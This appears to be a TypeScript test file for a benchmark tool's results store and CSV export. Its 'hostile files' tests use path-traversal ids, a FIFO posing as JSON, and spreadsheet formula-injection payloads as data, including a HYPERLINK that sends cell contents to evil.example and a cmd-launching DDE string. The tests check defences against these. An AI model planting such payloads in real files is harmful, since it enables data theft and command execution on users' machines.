import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { newStoreId, openResultsStore, StoreError } from '../../../src/core/results/store';
import { resultsToCsv } from '../../../src/core/results/csv';
import { FIXTURE_EXPERIMENT_ID, FIXTURE_STORE } from '../report/fixture';
import { BenchmarkResult, type BenchmarkResultInput } from '../../../src/core/plan/schema';
import { useTempDirs } from '../../support/tempDirs';

const tempDir = useTempDirs();

export function sampleResult(id: string, overrides: Partial<BenchmarkResultInput> = {}): BenchmarkResult {
  return BenchmarkResult.parse({
    schemaVersion: 1,
    id,
    createdAt: '2026-11-28T22:00:00.000Z',
    metrics: {
      duration: 67.25,
      completed: 1000,
      total_input_tokens: 214465,
      total_output_tokens: 199873,
      request_throughput: 14.87,
      output_throughput: 2971.88,
      total_token_throughput: 6160.72,
      mean_ttft_ms: 14772.52,
      p99_tpot_ms: 2061.59,
    },
    runner: 'vllm-bench',
    source: { kind: 'vllm-json' },
    ...overrides,
  });
}

const tempStore = () => openResultsStore(tempDir('sl-store-'));

test('a saved result loads back equal and is listed', async () => {
  const store = tempStore();
  const r = sampleResult('r-1');
  await store.saveResult(r);
  assert.deepEqual(await store.loadResult('r-1'), r);
  const { results, problems } = await store.listResults();
  assert.deepEqual(results.map((x) => x.id), ['r-1']);
  assert.deepEqual(problems, []);
  assert.equal(JSON.parse(readFileSync(store.resultPath('r-1'), 'utf8')).schemaVersion, 1);
  // Atomic writes leave no temp files behind.
  assert.deepEqual(readdirSync(join(store.root, 'results')), ['r-1.json']);
});

test('a corrupt result file is named as a problem and the others still load', async () => {
  const store = tempStore();
  await store.saveResult(sampleResult('r-good', { createdAt: '2026-11-28T22:01:00.000Z' }));
  await store.saveResult(sampleResult('r-old', { createdAt: '2026-11-28T21:00:00.000Z' }));
  writeFileSync(join(store.root, 'results', 'r-torn.json'), '{"schemaVersion": 1, "id": "r-to');
  writeFileSync(join(store.root, 'results', 'r-wrong.json'), JSON.stringify({ schemaVersion: 1, id: 'r-wrong' }));
  writeFileSync(join(store.root, 'results', 'r-future.json'), JSON.stringify({ schemaVersion: 7, id: 'r-future' }));
  const { results, problems } = await store.listResults();
  assert.deepEqual(results.map((x) => x.id), ['r-old', 'r-good'], 'sorted oldest first');
  assert.equal(problems.length, 3);
  const byFile = Object.fromEntries(problems.map((p) => [p.file.split('/').pop(), p.message]));
  assert.match(byFile['r-torn.json']!, /r-torn\.json: not valid JSON/);
  assert.match(byFile['r-wrong.json']!, /not a valid result \(.*metrics: /);
  assert.match(byFile['r-future.json']!, /newer Serving Lab \(schema version 7\)/);
  await assert.rejects(store.loadResult('r-torn'), (e: unknown) => e instanceof StoreError && e.code === 'corrupt');
});

test('missing ids and ids that would leave the store are refused with a sentence', async () => {
  const store = tempStore();
  await assert.rejects(store.loadResult('nope'), /no result "nope" in .*results list/);
  assert.throws(() => store.resultPath('../etc/passwd'), /invalid result id/);
  assert.throws(() => store.experimentPath('a/b'), /invalid experiment id/);
  const empty = await store.listExperiments();
  assert.deepEqual(empty, { experiments: [], problems: [] });
});

test('delete removes a result; ids sort by creation time', async () => {
  const store = tempStore();
  await store.saveResult(sampleResult('r-del'));
  await store.deleteResult('r-del');
  assert.deepEqual((await store.listResults()).results, []);
  const a = newStoreId('r', new Date('2026-11-28T22:00:00Z'));
  const b = newStoreId('r', new Date('2026-11-28T22:00:01Z'));
  assert.match(a, /^r-20261128-220000-[0-9a-f]{6}$/);
  assert.ok(a < b);
});

test('watch reports a new result file', async () => {
  const store = tempStore();
  let fired = 0;
  const w = store.watch(() => fired++);
  await new Promise((r) => setTimeout(r, 100));
  await store.saveResult(sampleResult('r-w'));
  await new Promise((r) => setTimeout(r, 400));
  w.dispose();
  assert.ok(fired >= 1, 'onChange was called');
});

// ---------------------------------------------------------------- hostile files (issue 16)

test('a FIFO named *.json in the store is skipped and named, not read forever', { timeout: 20_000 }, async () => {
  const root = tempDir('sl-store-fifo-');
  const store = openResultsStore(root);
  await store.saveResult(sampleResult('r-1'));
  const fifo = join(root, 'results', 'r-2.json');
  assert.equal(spawnSync('mkfifo', [fifo]).status, 0);
  const { results, problems } = await store.listResults();
  assert.deepEqual(results.map((r) => r.id), ['r-1']);
  assert.equal(problems.length, 1);
  assert.match(problems[0]!.message, /r-2\.json: not a regular file/);
  await assert.rejects(store.loadResult('r-2'), /not a regular file/);
});

test("a manifest's inner id must equal its file name (an id of ../../.. never reaches a path)", async () => {
  const root = tempDir('sl-store-id-');
  cpSync(FIXTURE_STORE, root, { recursive: true });
  const file = join(root, 'experiments', `${FIXTURE_EXPERIMENT_ID}.json`);
  const manifest = JSON.parse(readFileSync(file, 'utf8')) as { id: string };
  manifest.id = '../../../outside';
  writeFileSync(file, JSON.stringify(manifest));
  const store = openResultsStore(root);
  await assert.rejects(store.loadExperiment(FIXTURE_EXPERIMENT_ID), /inside has id "\.\.\/\.\.\/\.\.\/outside", not "x-20251106-091500-glm45a"/);
  const { experiments, problems } = await store.listExperiments();
  assert.equal(experiments.length, 0);
  assert.match(problems[0]!.message, /must equal its file name/);
  // Results too: a result file copied under another name is named, not listed under the wrong id.
  cpSync(join(root, 'results', readdirSync(join(root, 'results'))[0]!), join(root, 'results', 'r-copy.json'));
  assert.match((await store.listResults()).problems.map((p) => p.message).join('\n'), /r-copy\.json: the result inside has id/);
});

test('CSV cells that a spreadsheet would run as formulas start with a quote; numbers stay numbers', () => {
  const hostile = sampleResult('r-1', {
    stage: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    option: '@SUM(1+1)',
    workload: undefined,
    commands: { serve: '+cmd|\' /C calc\'!A0' },
    notes: [],
  });
  const metrics = { ...hostile.metrics, mean_ttft_ms: -1.5 };
  const csv = resultsToCsv([{ ...hostile, metrics, runner: 'vllm-bench' }]);
  const [header, row] = csv.trim().split('\n');
  const cells = row!.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, ''));
  const column = (name: string) => cells[header!.split(',').indexOf(name)]!;
  assert.equal(column('stage'), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
  assert.equal(column('option'), "'@SUM(1+1)");
  assert.equal(column('serveCommand'), "'+cmd|' /C calc'!A0");
  assert.equal(column('mean_ttft_ms'), '-1.5');
});
